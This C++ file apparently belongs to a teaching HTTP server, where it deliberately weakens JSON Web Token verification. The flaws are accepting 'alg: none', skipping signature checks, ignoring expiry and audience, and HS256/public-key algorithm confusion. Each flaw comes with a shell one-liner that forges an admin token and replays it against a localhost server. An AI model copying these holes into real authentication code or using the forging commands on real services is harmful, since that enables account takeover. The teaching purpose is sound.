// The token (step 6.3): each flaw believes something that a stranger has written. What it lets pass is signed anew with
// the server's own key and then checked as always, so that this one check is missing and no other.
#include "02-http-message/fields.hpp"
#include "06-security/signature.hpp"
#include "06-security/vulnerable/flaws.hpp"
#include "06-security/vulnerable/open_token.hpp"

namespace vulnerable {
namespace {

using security::TokenKey;
using security::TokenRules;

// The token to be checked instead of this one.
using Believe = std::string (*)(std::string_view token, const OpenToken& open, const TokenKey& key);

// RFC 7519 §6 knows tokens without a signature (« Unsecured JWT »): a library that follows the header accepts them.
std::string believe_none(std::string_view token, const OpenToken& open, const TokenKey& key) {
    const bool is_unsigned = http::equal_ignoring_case(text_in(open.header, "alg"), "none");
    return is_unsigned ? seal(open.claims, key) : std::string{token};
}

// Decoding is not checking: many libraries have a function for each, with names much alike.
std::string believe_content(std::string_view, const OpenToken& open, const TokenKey& key) {
    return seal(open.header, open.claims, key);
}

// The header says HS256, so the key is a secret, thinks the library; but it was given the public key, which all know.
std::string believe_algorithm(std::string_view token, const OpenToken& open, const TokenKey& key) {
    const auto secret = key.public_text();
    if (!secret || text_in(open.header, "alg") != "HS256") return std::string{token};
    const std::string_view all{*secret};
    const std::string_view trimmed = all.substr(0, all.find_last_not_of("\r\n") + 1);
    const bool is_good = security::verify_hs256(all, open.content, open.signature) ||
                         security::verify_hs256(trimmed, open.content, open.signature);
    return is_good ? seal(open.claims, key) : std::string{token};
}

Flaw believing(std::string id, std::string title, std::string exploit, Believe believe) {
    return {std::move(id), "6.3", std::move(title), std::move(exploit), [believe](Weakened& weakened) {
                const auto check = weakened.defences.check_token;
                weakened.defences.check_token = [=](std::string_view token, const TokenKey& key,
                                                    const TokenRules& rules, http::Seconds now) {
                    const auto open = open_token(token);
                    return check(open ? believe(token, *open, key) : std::string{token}, key, rules, now);
                };
            }};
}

// With other rules than the service's; `change` sees the token.
template <typename Change>
Flaw with_rules(std::string id, std::string title, std::string exploit, Change change) {
    return {std::move(id), "6.3", std::move(title), std::move(exploit), [change](Weakened& weakened) {
                const auto check = weakened.defences.check_token;
                weakened.defences.check_token = [=](std::string_view token, const TokenKey& key, TokenRules rules,
                                                    http::Seconds now) {
                    change(rules, token);
                    return check(token, key, rules, now);
                };
            }};
}

void forget_time(TokenRules& rules, std::string_view) {
    rules.leeway = std::chrono::hours{24 * 3650};
}

void forget_audience(TokenRules& rules, std::string_view token) {
    const auto open = open_token(token);
    if (open) rules.audience = text_in(open->claims, "aud");
}

}  // namespace

std::vector<Flaw> token_flaws() {
    const std::string use_it = "; curl -s -H \"Authorization: Bearer $JETON\" http://127.0.0.1:$PORT/files";
    const std::string base64url = "| base64 -w0 | tr -d = | tr /+ _-";
    const std::string admin_claims =
        R"({"sub":"grace","role":"admin","iss":"atelier-http","aud":"depot","exp":9999999999})";
    return {
        believing("token-none", "Un jeton qui dit « alg: none » n'a pas besoin de signature",
                  "JETON=$(printf '{\"alg\":\"none\"}' " + base64url + ").$(printf '" + admin_claims + "' " +
                      base64url + ")." + use_it,
                  believe_none),
        believing("token-signature", "La signature du jeton n'est pas vérifiée",
                  "JETON=$(printf '{\"alg\":\"EdDSA\"}' " + base64url + ").$(printf '" + admin_claims + "' " +
                      base64url + ").AAAA" + use_it,
                  believe_content),
        with_rules("token-expired", "Un jeton périmé sert encore",
                   "JETON=$(sed -n 's/^expired_token = //p' $PROFIL)" + use_it, forget_time),
        with_rules("token-audience", "Un jeton fait pour un autre service ouvre celui-ci",
                   "JETON=$(sed -n 's/^foreign_token = //p' $PROFIL)" + use_it, forget_audience),
        believing("token-confusion", "La clé publique sert de secret : le jeton choisit l'algorithme",
                  "CLE=$(curl -s http://127.0.0.1:$PORT/token/key); "
                  "CORPS=$(printf '{\"alg\":\"HS256\"}' " + base64url + ").$(printf '" + admin_claims + "' " +
                      base64url + "); JETON=$CORPS.$(printf %s $CORPS | openssl dgst -sha256 -hmac \"$CLE\" -binary " +
                      base64url + ")" + use_it,
                  believe_algorithm),
    };
}

}  // namespace vulnerable
